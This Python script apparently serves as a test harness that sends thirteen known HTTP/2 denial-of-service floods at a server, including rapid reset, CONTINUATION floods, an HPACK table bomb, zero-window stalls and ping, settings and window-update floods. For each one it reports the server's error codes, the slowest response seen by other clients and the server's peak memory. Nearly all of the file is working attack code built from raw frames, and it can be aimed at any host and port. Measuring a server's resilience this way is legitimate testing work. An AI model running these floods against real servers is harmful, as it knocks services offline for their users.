"""Attacks a server over HTTP/2 in every way that is known to have hurt one, and tells how it fared.

usage: http2_floods.py HOST PORT PROCESS_ID

An attack has one connection, and the next one when the server has ended that, for a second. All the
while others ask for `/` on connections of their own. One JSON object for each attack: {"attack", "code":
what GOAWAY or the first RST_STREAM said on the first connection, null for none; "connections"; "sent":
frames; "asked": answers to others, "slowest_ms": the longest that one of them waited; "resident_kib":
the most memory of the server}.
"""

import json
import socket
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
FRAME_LIMIT = 50_000
SECONDS = 1


def frame(kind, flags=0, stream=0, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload)


def head(path="/", method="GET"):
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    return hpack.Encoder().encode(fields)


def rapid_reset(count):
    stream = 2 * count + 1
    return frame(HEADERS, 5, stream, head()) + frame(RST, 0, stream, struct.pack(">I", 8))


def provoked_reset(count):
    stream = 2 * count + 1
    return frame(HEADERS, 4, stream, head()) + frame(WINDOW, 0, stream, bytes(4))


def continuation(count):
    if count == 0:
        return frame(HEADERS, 1, 1, head())
    return frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100)


def empty_continuation(count):
    return frame(HEADERS, 1, 1, head()) if count == 0 else frame(CONTINUATION, 0, 1)


def bodies(size):
    def make(count):
        if count == 0:
            return frame(HEADERS, 4, 1, head("/echo", "POST"))
        return frame(DATA, 0, 1, b"x" * size)
    return make


def hpack_bomb(count):
    # A field of 4,000 bytes goes into the table, and is then named by single bytes.
    if count == 0:
        block = head() + b"\x40\x01n\x7F\xA1\x1E" + b"v" * 4000 + b"\xBE" * 12000
    else:
        block = head() + b"\xBE" * 16000
    return frame(HEADERS, 5, 2 * count + 1, block)


def many_streams(count):
    return frame(HEADERS, 5, 2 * count + 1, head("/sse?count=2&interval=600000"))


def zero_window(count):
    if count == 0:
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    if count <= 100:
        return frame(HEADERS, 5, 2 * count + 1, head("/sse?count=1000000&interval=0"))
    return frame(WINDOW, 0, 2 * (count % 100) + 3, struct.pack(">I", 1))


ATTACKS = {
    "rapid_reset": rapid_reset,
    "provoked_reset": provoked_reset,
    "continuation": continuation,
    "empty_continuation": empty_continuation,
    "settings": lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)),
    "ping": lambda _: frame(PING, 0, 0, bytes(8)),
    "window_update": lambda _: frame(WINDOW, 0, 0, struct.pack(">I", 1)),
    "priority": lambda count: frame(PRIORITY, 0, 2 * count + 1, struct.pack(">IB", 0, 15)),
    "empty_data": bodies(0),
    "single_byte_data": bodies(1),
    "hpack_bomb": hpack_bomb,
    "many_streams": many_streams,
    "zero_window": zero_window,
}


class Bystanders(threading.Thread):
    """Asks for `/`, each time on a new connection, and remembers the slowest answer."""

    def __init__(self, address):
        super().__init__(daemon=True)
        self.address, self.slowest, self.count = address, 0.0, 0
        self.stop = threading.Event()

    def run(self):
        while not self.stop.is_set():
            started = time.monotonic()
            try:
                with socket.create_connection(self.address, timeout=10) as connection:
                    connection.sendall(
                        PREFACE + frame(SETTINGS) + frame(HEADERS, 5, 1, head()))
                    received = b""
                    while b"weir-probe" not in received:
                        part = connection.recv(65536)
                        if not part:
                            raise ConnectionError
                        received += part
                self.slowest = max(self.slowest, time.monotonic() - started)
                self.count += 1
            except OSError:
                self.slowest = 3600.0
            time.sleep(0.02)


def resident(process):
    with open(f"/proc/{process}/status") as status:
        return int(next(line for line in status if line.startswith("VmRSS")).split()[1])


def codes(received):
    """The code of the first GOAWAY, else of the first RST_STREAM."""
    offset, reset = 0, None
    while offset + 9 <= len(received):
        length, kind = int.from_bytes(received[offset:offset + 3], "big"), received[offset + 3]
        payload = received[offset + 9:offset + 9 + length]
        if kind == GOAWAY and len(payload) >= 8:
            return int.from_bytes(payload[4:8], "big")
        if kind == RST and reset is None and len(payload) == 4:
            reset = int.from_bytes(payload, "big")
        offset += 9 + length
    return reset


def connection_of(address, process, make, reads, until):
    """Attacks on one connection: what was received, the frames sent, the most memory of the server."""
    received, sent, most, ended = bytearray(), 0, 0, False
    with socket.create_connection(address) as connection:
        connection.setblocking(False)
        pending = bytearray(PREFACE + frame(SETTINGS))
        while not ended and time.monotonic() < until and (sent < FRAME_LIMIT or pending):
            while len(pending) < 16384 and sent < FRAME_LIMIT:
                pending += make(sent)
                sent += 1
            try:
                del pending[:connection.send(pending)]
            except BlockingIOError:
                time.sleep(0.002)
            except OSError:
                ended = True
            while reads:
                try:
                    part = connection.recv(65536)
                except BlockingIOError:
                    break
                except OSError:
                    part = b""
                if not part:
                    ended = True
                    break
                received += part
            most = max(most, resident(process))
        # What the server still says.
        connection.settimeout(3)
        try:
            while reads and (part := connection.recv(65536)):
                received += part
        except OSError:
            pass
    return received, sent, most


def attack(address, process, make, reads=True):
    bystanders = Bystanders(address)
    bystanders.start()
    until = time.monotonic() + SECONDS
    code, connections, sent, most = None, 0, 0, 0
    while time.monotonic() < until:
        received, count, peak = connection_of(address, process, make, reads, until)
        code = codes(received) if connections == 0 else code
        connections, sent, most = connections + 1, sent + count, max(most, peak)
    bystanders.stop.set()
    bystanders.join()
    return {
        "code": code, "connections": connections, "sent": sent, "asked": bystanders.count,
        "slowest_ms": round(bystanders.slowest * 1000), "resident_kib": most,
    }


def main():
    address, process = (sys.argv[1], int(sys.argv[2])), int(sys.argv[3])
    for name, make in ATTACKS.items():
        print(json.dumps({"attack": name} | attack(address, process, make)), flush=True)
    outcome = attack(address, process, ATTACKS["ping"], reads=False)
    print(json.dumps({"attack": "never_reading"} | outcome), flush=True)


main()
